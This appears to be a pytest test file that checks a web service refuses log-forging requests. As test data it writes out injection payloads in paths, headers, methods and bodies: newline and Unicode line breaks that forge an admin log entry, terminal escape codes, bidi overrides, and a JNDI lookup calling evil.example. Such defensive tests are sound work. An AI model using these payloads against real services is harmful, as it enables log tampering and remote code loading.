"""Log forging: a request that would write a line of its own, hide one, or repaint the terminal."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from tests.service.asking import HOST
from tests.service.hostile.refused import FORGED, refused

ENTRY = json.dumps({"event": "order", "client": "key:admin", "note": FORGED})
LINE = f"\n{ENTRY}\n"
PATHS = {
    "a line": quote(LINE),
    "a line by U+2028": quote(f"\u2028{ENTRY}"),
    "a line by U+0085": quote(f"\x85{ENTRY}"),
    "an entry's end": quote(f'","event":"{FORGED}","x":"', safe=",:"),
    "a colour": quote(f"\x1b[31m{FORGED}\x1b[0m"),
    "a cleared screen": quote("\x1b[2J\x1b[H"),
    "a carriage return": quote(f"\r{FORGED}"),
    "backspaces": quote("\b" * 40 + FORGED),
    "letters from right to left": quote(f"\u202e{FORGED}"),
    "an isolate": quote(f"\u2066{FORGED}\u2069"),
    "no breaks at all": quote(f"{FORGED}\u200b"),
    "a private letter": quote(f"\ue000{FORGED}"),
    "half a letter": "%ed%a0%80" + FORGED,
    "a very long line": FORGED * 60,
    "a placeholder": quote("%s%n{request}${jndi:ldap://evil.example/x}", safe=""),
    "a lookup": "$" + "{env:PATH}".replace("{", "%7B").replace("}", "%7D"),
    "markup": quote(f"<script>{FORGED}</script>"),
}
HEADERS = {
    "a name that is no name": [(b"x-request-id", ENTRY.encode())],
    "a name with a break": [(b"x-request-id", LINE.encode())],
    "a long name": [(b"x-request-id", b"a" * 65)],
    "a short name": [(b"x-request-id", b"a")],
    "two names": [(b"x-request-id", b"aaaaaaaaaa"), (b"x-request-id", FORGED.encode())],
    "an address that is none": [(b"x-forwarded-for", ENTRY.encode())],
    "an address with a break": [(b"x-forwarded-for", f"1.2.3.4{LINE}".encode())],
    "a browser that is none": [(b"user-agent", LINE.encode())],
    "a user": [(b"authorization", f"Basic {FORGED}".encode())],
    "a referrer": [(b"referer", f"https://evil.example/{FORGED}".encode())],
}
METHODS = ("GET\n" + FORGED, FORGED, "get", "PROPFIND", "TRACE", "CONNECT", "X" * 500)


@pytest.mark.parametrize("name", PATHS)
def test_no_path_writes_a_line(target, name):
    refused(target, lambda: target.ask("GET", f"/{PATHS[name]}"))


@pytest.mark.parametrize("name", HEADERS)
def test_no_header_writes_a_line(target, name):
    refused(target, lambda: target.ask("GET", "/nothing", headers=[HOST, *HEADERS[name]]))


@pytest.mark.parametrize("method", METHODS, ids=range(len(METHODS)))
def test_no_method_writes_a_line(target, method):
    refused(target, lambda: target.ask(method, "/nothing"))


@pytest.mark.parametrize("where", ["country", "language", "format", FORGED + LINE])
def test_no_body_writes_a_line(target, where):
    refused(target, lambda: target.ask("POST", "/v1/briefs", value={where: LINE}))


def test_a_job_that_does_not_exist_writes_no_line(target):
    refused(target, lambda: target.ask("GET", f"/v1/jobs/{FORGED}"))
